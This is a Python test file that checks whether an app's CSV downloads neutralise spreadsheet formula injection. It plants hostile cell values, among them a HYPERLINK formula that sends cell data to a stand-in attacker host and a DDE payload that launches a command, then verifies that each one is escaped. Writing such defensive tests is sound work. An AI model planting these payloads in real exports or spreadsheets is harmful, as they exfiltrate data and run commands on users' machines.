"""Promise: no CSV download can carry a spreadsheet formula. Every one is written by
`govern/downloads.py`, which puts an apostrophe before a text cell that begins with `=`, `+`, `-`,
`@`, tab or CR. Found by a hostile visitor: an inventory item named `=HYPERLINK(...)` was written
raw into the public `/inventory.csv`.

The test plants text that starts with each of those characters wherever people write text that a
download shows (inventory items, proposal titles, memos), then walks every CSV route of the app
(found in its URL map, so a new download is covered by itself) and reads every cell."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest

from govern import downloads
from govern.extensions import db
from govern.inventory import service as inventory
from govern.ledger import exchange, transfers
from govern.members import service as members
from govern.money import Money
from govern.proposals import service as proposals
from tests.conftest import TEST_PASSWORD
from tests.funding import buy_rsc
from tests.security.conftest import build_scenario, log_in

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
FIGURE = re.compile(r"^-?\d+(\.\d+)?$")  # amounts the app formats itself: negative ones stay numbers


@pytest.fixture
def planted(app, now):
    scenario = build_scenario(db.session, now)
    member = members.get_member(db.session, scenario.member_id)
    admin = members.get_member(db.session, scenario.admin_id)
    buy_rsc(db.session, admin, 1_000, now)
    for n, text in enumerate(FORMULAS):
        inventory.add_item(db.session, region_id=scenario.region_id, item=text, kind="equipment", cost_minor=100 + n,
                           currency="RSC", holder_company_id=None, proposal_id=None, now=now)
        transfers.transfer(db.session, admin, member.id, Money(1 + n, "RSC"), text, now)
        proposal = proposals.create_proposal(db.session, member, kind_key="referendum", title=text, body="Why not.",
                                             payload={}, closes_at=now + timedelta(days=1), now=now,
                                             min_voting_seconds=1, voting_request=None)
        proposals.close_proposal(db.session, proposal.id, now + timedelta(days=2))
    # A member whose name is a formula cashes out: the board's payouts file for the bank names them.
    hostile = members.join(db.session, email="cell@example.org", name=FORMULAS[0], password=TEST_PASSWORD,
                           region_id=scenario.region_id, now=now)
    transfers.transfer(db.session, admin, hostile.id, Money(100, "RSC"), "for the bank file", now)
    exchange.convert(db.session, hostile, "rsc_to_usd", Money(100, "RSC"), now)
    return scenario


def _csv_urls(app, client) -> list[str]:
    urls = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods:
            continue
        if rule.rule.endswith(".csv"):
            urls.append(rule.rule)
        elif "fmt" in rule.arguments and not rule.defaults:
            json_url = rule.build({"fmt": "json"}, append_unknown=False)[1]
            tables = client.get(json_url).get_json()["tables"]
            csv_url = rule.build({"fmt": "csv"}, append_unknown=False)[1]
            urls += [f"{csv_url}?table={name}" for name in tables]
    return urls


def test_every_csv_download_keeps_formulas_as_text(app, planted):
    client, board = app.test_client(), app.test_client()
    log_in(client, planted.member_email)
    log_in(board, planted.board_email)
    urls = _csv_urls(app, client)
    assert "/inventory.csv" in urls and "/me/statement.csv" in urls and len(urls) >= 10
    seen = set()
    for url in urls:
        response = client.get(url)
        if response.status_code == 404:  # the board's own downloads (the payouts file for the bank)
            response = board.get(url)
        assert response.status_code == 200 and response.mimetype == "text/csv", url
        for row in csv.reader(io.StringIO(response.get_data(as_text=True), newline="")):
            for cell in row:
                if cell.startswith(downloads.FORMULA_STARTS):
                    assert FIGURE.match(cell), f"{url}: {cell!r}"
                if cell[1:] in FORMULAS and cell.startswith("'"):
                    seen.add((url.split("?")[0], cell[1:]))
    shown_in = {url for url, _ in seen}
    assert {"/inventory.csv", "/me/statement.csv", "/records/proposals.csv", "/treasury/payouts.csv"} <= shown_in
    assert {text for url, text in seen if url == "/inventory.csv"} == set(FORMULAS)


def test_the_inventory_csv_writes_the_hostile_item_as_text(app, planted):
    text = app.test_client().get("/inventory.csv").get_data(as_text=True)
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"' in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


def test_the_writer_leaves_figures_and_harmless_text_alone():
    text = downloads.csv_text(["Memo", "Amount"], [["-5", downloads.Figure("-5.00")], ["Rent", 12], [None, "a-b"]])
    assert text.splitlines() == ["Memo,Amount", "'-5,-5.00", "Rent,12", ",a-b"]
